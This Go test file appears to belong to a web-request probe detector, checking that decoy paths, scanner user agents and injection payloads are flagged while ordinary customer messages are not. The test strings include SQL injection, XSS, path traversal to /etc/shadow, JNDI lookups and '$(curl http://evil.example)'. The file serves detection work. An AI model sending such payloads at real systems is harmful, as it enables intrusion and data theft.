package probing

import (
	"strings"
	"testing"
	"time"
)

func TestDecoy(t *testing.T) {
	t.Parallel()
	for path, want := range map[string]string{
		"/.env": "secrets", "/app/.env": "secrets", "/.git/config": "repository", "/.GIT/HEAD": "repository", "/wp-login.php": "wordpress",
		"/blog/wp-admin/setup": "wordpress", "/phpmyadmin/index.php": "database", "/phpMyAdmin": "database", "/vendor/phpunit/src/eval-stdin.php": "php",
		"/x.php": "php", "/login.aspx": "asp", "/cgi-bin/luci": "router", "/actuator/health": "java", "/db.sql": "backup", "/a/b/customers.bak": "backup",
		// What browsers, people, monitors and our own clients ask for.
		"/": "", "/favicon.ico": "", "/robots.txt": "", "/.well-known/security.txt": "", "/.well-known/change-password": "", "/apple-touch-icon.png": "", "/sitemap.xml": "",
		"/assets/index-abc.js": "", "/assets/index-abc.js.map": "", "/v1/me": "", "/v1/conversations/0192/entries": "", "/security/allow-list": "", "/inbox/mine": "",
		"/frame/demo": "", "/frame/alder.env": "", "/metrics": "", "/healthz": "", "/docs": "", "/environment": "", "/admin": "", "/login": "", "": "", "/signin#x": "",
	} {
		if got, is := Decoy(path); got != want || is != (want != "") {
			t.Errorf("%s: %q %v, want %q", path, got, is, want)
		}
	}
	if _, is := Decoy("/" + strings.Repeat("a/", 1<<20) + ".env"); is {
		t.Error("all of a huge path is looked at")
	}
}

func TestTool(t *testing.T) {
	t.Parallel()
	for agent, want := range map[string]bool{
		"sqlmap/1.7.2#stable (https://sqlmap.org)": true, "Mozilla/5.00 (Nikto/2.1.6)": true, "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0 Safari/537.36": false,
		"curl/8.5.0": false, "Go-http-client/1.1": false, "UptimeRobot/2.0": false, "": false,
	} {
		if _, is := Tool(agent); is != want {
			t.Errorf("%s: %v", agent, is)
		}
	}
}

func TestPayloads(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"1 UNION ALL SELECT username, password FROM users": "sql", "x' OR '1'='1": "sql", "admin' or 1=1 --": "sql", "1); SELECT pg_sleep(5)": "sql",
		"'; DROP TABLE staff; --": "sql", "' OR ''='": "sql", `<ScRiPt>alert(1)</script>`: "script", `<img src=x onerror=alert(1)>`: "script",
		"javascript:alert(document.domain)": "script", "../../../../etc/passwd": "path", "file=/etc/shadow": "path", "{{7*7}}": "template",
		"{{ ''.__class__.__mro__ }}": "template", "${jndi:ldap://evil.example/a}": "lookup", "${${lower:j}ndi:ldap://x}": "lookup",
		"() { :; }; /bin/bash -c id": "command", "$(curl http://evil.example)": "command", "php://filter/convert.base64-encode": "php",
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]>`: "entity", "http://169.254.169.254/latest/meta-data": "inner",
	} {
		if got, is := In(text); !is || got.Name != want {
			t.Errorf("%q: %+v %v, want %s", text, got, is, want)
		}
	}
	for target, want := range map[string]string{
		"/x?id=1%27%20OR%20%271%27%3D%271": "sql", "/x?q=%3Cscript%3E": "script", "/assets/%2e%2e/%2e%2e/etc/passwd": "path", "/..%252f..%252f..%252fetc/passwd": "path",
		"/x?a=1+union+select+null,null": "sql", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D": "lookup", "/?user[$ne]=1": "header", "/?a=x%0d%0aSet-Cookie:+a=b": "header",
	} {
		if got, is := InAddress(target); !is || got.Name != want {
			t.Errorf("%s: %+v %v, want %s", target, got, is, want)
		}
	}
}

func TestInJSON(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{`{"a":"\u003cscript\u003e"}`: true, `{"a":"<script>"}`: true, `{"a":"\u00fc \u003"}`: false, `{"a":"\u00`: false, `{"url":"https://a.example/?q=1"}`: false} {
		if _, is := InJSON([]byte(text)); is != want {
			t.Errorf("%s: %v", text, is)
		}
	}
}

// What customers of shops write, code and markup of the honest included, is none.
func TestOrdinaryTexts(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"Hello, where is my order 12345?", "I'm looking for the union jack flag, can you select one from your range?", "It's 5 o'clock or 6 o'clock, I don't know",
		"my size is 38 or 40; please drop it at the table", "The total was $14.50 (incl. VAT) -- is that right?", "see https://shop.example/p?id=1&x=2#top",
		"We're from the trade union; which lamp do you select?", "Straße 5/6, 2. Stock", "1=1 is true", "Where is the <b>bold</b> one?", "5 < 6 and 7 > 3 :-)",
		"I can't log in: it says \"wrong password\" or \"account locked\"", "path: C:\\Users\\me\\Pictures", "../holiday.jpg", "Can I pay with {card}?", "Price is {{price}}",
		"Where do I download the script?", "Mon-Fri; Sat.; Sun. closed", "the cat /dog toy", "onload it", "I'd like to order from 'select' series", "sleep(ing) bag",
		"a@b.example; c@d.example", "Ask o'Brien or o'Neil = same person", "مرحبا أين طلبي؟", "10' or 12' cable?", "it's either '10' or '12'",
	} {
		if got, is := In(text); is {
			t.Errorf("%q is taken for %+v", text, got)
		}
	}
	for _, target := range []string{
		"/v1/conversations?box=mine&limit=50", "/v1/search?q=o%27brien+or+smith", "/v1/search?q=union+station", "/frame/demo?lang=de", "/v1/audit?from=1&to=2", "/assets/index-abc.js",
		"/v1/search?q=50%25+off", "/v1/search?q=%3C3",
	} {
		if got, is := InAddress(target); is {
			t.Errorf("%s is taken for %+v", target, got)
		}
	}
}

// The time is linear, whatever is sent.
func TestLinear(t *testing.T) {
	t.Parallel()
	for _, unit := range []string{"union", "<img ", "{{", "<!doctype ", "' or '", "%25", "%2525", "union select "} {
		began := time.Now()
		for range 20 {
			In(strings.Repeat(unit, maxText/len(unit)))
			InAddress(strings.Repeat(unit, maxText/len(unit)))
		}
		if took := time.Since(began); took > 5*time.Second {
			t.Errorf("%q: %s", unit, took)
		}
	}
}

func FuzzIn(f *testing.F) {
	f.Add("<script>")
	f.Add("%2e%2e%2f")
	f.Fuzz(func(t *testing.T, s string) {
		for _, look := range []func(string) (Payload, bool){In, InAddress} {
			if p, is := look(s); is && (p.Name == "" || len(p.Piece) > maxPiece || p.Piece == "") {
				t.Errorf("%+v", p)
			}
		}
		Decoy(s)
		Tool(s)
	})
}

func BenchmarkInMessage(b *testing.B) {
	for b.Loop() {
		In("Hello, I'd like to know where my order 12345 is. It was to arrive on Tuesday (or so I thought).")
	}
}

func BenchmarkInAddress(b *testing.B) {
	for b.Loop() {
		InAddress("/v1/conversations/01920f5e-7c1a-7000-8000-000000000000/entries?after=12&limit=50")
	}
}
